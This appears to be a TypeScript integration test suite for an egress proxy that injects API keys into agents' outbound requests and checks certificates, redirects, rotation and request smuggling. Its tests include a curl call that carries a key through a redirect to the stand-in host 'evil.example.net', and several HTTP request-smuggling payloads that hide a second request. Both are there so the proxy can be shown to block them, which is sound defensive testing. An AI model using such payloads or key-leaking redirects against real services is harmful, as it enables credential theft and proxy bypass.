import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { Agent, request } from 'node:http';
import { text } from 'node:stream/consumers';
import { after, before, beforeEach, describe, test } from 'node:test';
import type { AgentTable, Gateway } from '../../src/policy/table.ts';
import { agentctl, succeed } from '../helpers/agents.ts';
import { inTime, runCommand } from '../helpers/commands.ts';
import { CredentialStage, call, fieldOf, KEYS, MOUNTS } from '../helpers/credential-stage.ts';
import { head } from '../helpers/egress-stage.ts';
import { WORLD_ADDRESS } from '../helpers/internet.ts';
import { BAD_CERTIFICATES } from '../helpers/internet-certificates.ts';
import { settles } from '../helpers/proxy-stage.ts';
import { type Puppet, verdictOf } from '../helpers/puppet.ts';
import { UPSTREAM_KINDS, UpstreamProxy } from '../helpers/upstream-proxies.ts';

// The gateway as the installed proxy has it: what it carries, who it takes for an API, and what changes under way.

const CONTROL = '/run/agent-egress-control.sock';
const MESSAGES = '/anthropic/v1/messages';
const ECHO = 'http://127.0.0.1:3128/custom/echo.example.com';
const MIB = 1024 * 1024;
const LARGE = 200 * MIB;
/** What the proxy may grow by while it carries {@link LARGE} bytes: buffers of a few connections, and young garbage. */
const GROWTH_MAX = 96 * MIB;

let stage: CredentialStage;
before(async () => {
  stage = await CredentialStage.open();
});
beforeEach(() => stage.egress.internet.clear());
after(() => stage?.close());

/** Most memory the proxy has ever had, and what it has now, bytes. */
async function proxyMemory(): Promise<{ readonly peak: number; readonly now: number }> {
  const { stdout } = await succeed(runCommand(['systemctl', 'show', '-P', 'MainPID', 'agent-egressd.service']));
  const status = readFileSync(`/proc/${stdout.trim()}/status`, 'utf8');
  const kibibytes = (name: string): number => Number(new RegExp(`^${name}:\\s+(\\d+) kB$`, 'm').exec(status)?.[1]);
  return { peak: kibibytes('VmHWM') * 1024, now: kibibytes('VmRSS') * 1024 };
}

/** Asks over a Unix socket: status and body. */
async function ask(
  socketPath: string,
  agent: Agent | false,
  [method, path, body = '']: readonly string[],
): Promise<readonly [number, string]> {
  const headers = { host: 'localhost', 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) };
  const answered = new Promise<readonly [number, string]>((resolve, reject) => {
    const asked = request({ socketPath, agent, method, path, headers, setHost: false }, (answer) => {
      text(answer).then((told) => resolve([answer.statusCode ?? 0, told]), reject);
    });
    asked.on('error', reject);
    asked.end(body);
  });
  return await inTime(answered, `${method} ${path}`);
}

test('the key is added on the way to the API, and no rule needs to name its host', async () => {
  const [puppet, placeholders] = await stage.agent();
  const answer = await puppet.ask(call('POST', MESSAGES, [`X-Api-Key: ${placeholders.api}`], '{}'));
  assert.equal(verdictOf(answer), '200');
  const [arrival] = await stage.arrivals();
  assert.deepEqual(
    [arrival?.serverName, arrival?.host, arrival?.method, arrival?.target, fieldOf(arrival, 'x-api-key')],
    ['api.example.com', 'api.example.com', 'POST', '/v1/messages', KEYS.api],
  );
  assert.ok(!answer.includes(KEYS.api), 'the server tells the whole request');
  assert.ok(answer.includes(`x-api-key: ${'*'.repeat(KEYS.api.length)}\n`), answer);
  const decisions = (await stage.audit(puppet.id)).flatMap((event) => (event.kind === 'decision' ? [event] : []));
  assert.deepEqual(
    decisions.map(({ form, host, port, path, rule }) => [form, host, port, path, rule]),
    [['gateway', 'api.example.com', 443, '/v1/messages', '/credentials/0']],
  );
});

test('an API whose certificate nobody should take gets nothing', async () => {
  const names = Object.keys(BAD_CERTIFICATES);
  for (const name of names) await stage.egress.internet.answer(name, ['11.0.0.7']);
  const api_key_file = stage.keyFile('api');
  const bases = ['api.example.com', ...names];
  const credentials = bases.map((name) => ({ provider: 'custom', api_key_file, base_url: `https://${name}` }));
  const [puppet] = await stage.agent({ credentials });
  await stage.egress.internet.clear();
  const verdicts: string[] = [];
  for (const name of bases) verdicts.push(verdictOf(await puppet.ask(call('GET', `/custom/${name}/x`))));
  assert.deepEqual(verdicts, ['200', ...names.map(() => '502 egress.certificate')]);
  assert.deepEqual(
    (await stage.arrivals()).map(({ host }) => host),
    ['api.example.com'],
  );
  // All of them are there, and take the key from a client that does not look.
  const curl = ['curl', '-sS', '--insecure', '--noproxy', '*', '-H', 'x-api-key: control'];
  for (const name of names) await succeed(runCommand([...curl, `https://${name}/`]));
  assert.equal((await stage.arrivals()).length, bases.length);
});

test('a redirect to another host is not followed, and no client can follow it with the key', async () => {
  const [puppet] = await stage.agent({ allowed_hosts: ['evil.example.net'] });
  const path = '/redirect?to=https://evil.example.net/take';
  assert.equal(verdictOf(await puppet.ask(call('GET', `${MOUNTS.echo}${path}`))), '502 egress.redirect');
  const inside = await puppet.ask(call('GET', `${MOUNTS.echo}/redirect?to=/there`));
  assert.match(inside, /^HTTP\/1\.1 302 [\s\S]*\r\nlocation: \/custom\/echo\.example\.com\/there\r\n/i);
  assert.deepEqual(
    (await stage.arrivals()).map(({ host }) => host),
    ['echo.example.com', 'echo.example.com'],
  );
  // A client that holds the key takes it along.
  const curl = ['curl', '-sSL', '--noproxy', '*', '--cacert', stage.egress.internet.authority];
  await succeed(runCommand([...curl, '-H', 'x-api-key: control', `https://echo.example.com${path}`]));
  const taken = (await stage.arrivals()).find(({ host }) => host === 'evil.example.net');
  assert.equal(fieldOf(taken, 'x-api-key'), 'control');
});

test('events of a stream arrive one by one, each before the next one is there', async () => {
  const [puppet] = await stage.agent();
  const { internet } = stage.egress;
  const opened = puppet.open('stream', [{ send: call('GET', `${MOUNTS.echo}/stream/one`) }, { read: 'head' }]);
  assert.equal(verdictOf((await opened)[0]), '200');
  for (const name of ['first', 'second', 'third']) {
    const event = `event: ${name}\ndata: {}\n\n`;
    await internet.push('one', event);
    const chunk = `${event.length.toString(16)}\r\n${event}\r\n`;
    assert.deepEqual(await puppet.on('stream', [{ read: chunk.length }]), [chunk]);
  }
  await internet.finish('one');
  assert.deepEqual(await puppet.on('stream', [{ read: 5 }]), ['0\r\n\r\n']);
});

test('a host that is denied while its API answers is cut off, and says why the next time', async () => {
  const [puppet] = await stage.agent();
  const { internet } = stage.egress;
  await puppet.open('stream', [{ send: call('GET', `${MOUNTS.echo}/stream/cut`) }, { read: 'head' }]);
  await internet.push('cut', 'data: 1\n\n');
  await succeed(agentctl('deny', puppet.id, 'echo.example.com'));
  await inTime(internet.streamClosed('cut'), 'the end of the stream');
  assert.equal(verdictOf(await puppet.ask(call('GET', `${MOUNTS.echo}/x`))), '403 egress.denied-host');
  assert.equal(verdictOf(await puppet.ask(call('GET', '/anthropic/v1/models'))), '200');
});

test('two hundred mebibytes pass both ways and are never in the proxy at once', async () => {
  const [puppet] = await stage.agent();
  const { now } = await proxyMemory();
  const curl = [
    'curl',
    '-sS',
    '--noproxy',
    '*',
    '-o',
    '/dev/null',
    '-w',
    '%{http_code} %{size_download} %{size_upload}',
  ];
  const down = await puppet.run([...curl, `${ECHO}/bytes/${LARGE}`]);
  assert.equal(down.stdout, `200 ${LARGE} 0`, down.stderr);
  const upload = `head -c ${LARGE} /dev/zero | "$@"`;
  const words = ['bash', '-c', upload, 'bash', ...curl, '-X', 'POST', '-T', '-', `${ECHO}/take`];
  const up = await puppet.run(words);
  const [status, , uploaded] = up.stdout.split(' ');
  assert.equal(status, '200', up.stderr);
  // With the sizes of chunks.
  assert.ok(Number(uploaded) >= LARGE, up.stdout);
  const { peak } = await proxyMemory();
  assert.ok(peak < now + GROWTH_MAX, `from ${now} to ${peak} bytes`);
});

for (const kind of UPSTREAM_KINDS) {
  describe(`behind ${kind}`, () => {
    let upstream: UpstreamProxy;
    let puppet: Puppet;
    before(async () => {
      upstream = await UpstreamProxy.start(stage.egress.internet, kind);
      await stage.egress.internet.answer('expired.example.com', ['11.0.0.7']);
      const expired = {
        provider: 'custom',
        api_key_file: stage.keyFile('other'),
        base_url: 'https://expired.example.com',
      };
      const { credentials } = stage.credentials();
      const all = [...(credentials as readonly unknown[]), expired];
      [puppet] = await stage.agent({ proxy: upstream.url, credentials: all });
    });
    after(() => upstream?.stop());

    test('the API is reached through a tunnel, at whose end it proves itself', async () => {
      await stage.egress.internet.clear();
      assert.equal(verdictOf(await puppet.ask(call('POST', MESSAGES, [], '{}'))), '200');
      const [arrival] = await stage.arrivals();
      assert.deepEqual([fieldOf(arrival, 'x-api-key'), fieldOf(arrival, 'via')], [KEYS.api, undefined]);
      const expired = await puppet.ask(call('GET', '/custom/expired.example.com/x'));
      assert.equal(verdictOf(expired), '502 egress.certificate');
      assert.equal((await stage.arrivals()).length, 1);
      const places = new Set(await stage.egress.connections());
      assert.deepEqual([...places], [`${WORLD_ADDRESS} ${upstream.port}`]);
    });
  });
}

test('keys change under load without a request that fails, and the next request has the new one', async () => {
  const id = `rotated-${process.pid}`;
  const gateway = (key: string): Gateway => ({
    ...{ provider: 'custom', mount: '/custom/api.example.com', username: null, key, placeholder: null },
    base: { scheme: 'https', host: 'api.example.com', port: 443, path: '' },
    field: { name: 'x-api-key', word: '' },
    pointer: '/credentials/0',
  });
  const table = (key: string): AgentTable => ({
    ...{ id, policy: { allow: [], deny: [] }, upstream: null, caps: { maxBytes: null, requestsPerMinute: null } },
    ...{ gateways: [gateway(key)], budget: { requests: null, tokens: null } },
  });
  const put = async (key: string): Promise<void> => {
    const [status, told] = await ask(CONTROL, false, ['PUT', `/agents/${id}`, JSON.stringify(table(key))]);
    assert.ok(status < 300, told);
  };
  const keys = Array.from({ length: 10 }, (_, index) => `key-${index}-0123456789`);
  await put(keys[0] ?? '');
  const statuses: number[] = [];
  let isOver = false;
  const load = async (): Promise<void> => {
    const agent = new Agent({ keepAlive: true, maxSockets: 1 });
    while (!isOver) {
      const socket = `/run/agent-egress/${id}/proxy.sock`;
      statuses.push((await ask(socket, agent, ['POST', '/custom/api.example.com/load', '{}']))[0]);
    }
    agent.destroy();
  };
  const loads = Array.from({ length: 4 }, load);
  for (const key of keys.slice(1)) {
    const before = statuses.length;
    await settles(() => statuses.length >= before + 8, 'some requests');
    await put(key);
    const probe = `/custom/api.example.com/after/${key}`;
    assert.equal((await ask(`/run/agent-egress/${id}/proxy.sock`, false, ['GET', probe]))[0], 200);
  }
  isOver = true;
  await Promise.all(loads);
  await ask(CONTROL, false, ['DELETE', `/agents/${id}`]);
  assert.deepEqual([...new Set(statuses)], [200]);
  const arrivals = await stage.arrivals();
  const probes = arrivals.filter(({ target }) => target.startsWith('/after/'));
  assert.deepEqual(
    probes.map((arrival) => [arrival.target, fieldOf(arrival, 'x-api-key')]),
    keys.slice(1).map((key) => [`/after/${key}`, key]),
  );
  const used = arrivals.filter(({ target }) => target === '/load').map((arrival) => fieldOf(arrival, 'x-api-key'));
  assert.deepEqual([...new Set(used)], keys.slice(0, new Set(used).size), 'keys are used in the order they were given');
});

test('a request hidden behind another one is read as that one is, not as the API would', async () => {
  const [puppet] = await stage.agent();
  const hidden = call('GET', '/v1/organizations', [`X-Api-Key: x`]);
  const post = `POST ${MESSAGES} HTTP/1.1`;
  const both = head(post, 'Host: a', 'Content-Length: 4', 'Transfer-Encoding: chunked');
  const smuggled = [
    `${both}0\r\n\r\n${hidden}`,
    `${head(post, 'Host: a', 'Transfer-Encoding: chunked', 'Transfer-Encoding: identity')}0\r\n\r\n${hidden}`,
    `${head(post, 'Host: a', 'Transfer-Encoding: xchunked')}0\r\n\r\n${hidden}`,
    head(`GET ${MESSAGES} HTTP/1.1`, 'Host: a', `Content-Length: ${hidden.length}`) + hidden,
  ];
  for (const bytes of smuggled) {
    const [answer = ''] = await puppet.talk([{ send: bytes }, { read: 'end' }]);
    assert.match(answer, /^HTTP\/1\.1 400 /, bytes);
    assert.equal(answer.match(/^HTTP\/1\.1 /gm)?.length, 1, answer);
  }
  assert.deepEqual(await stage.arrivals(), []);
});
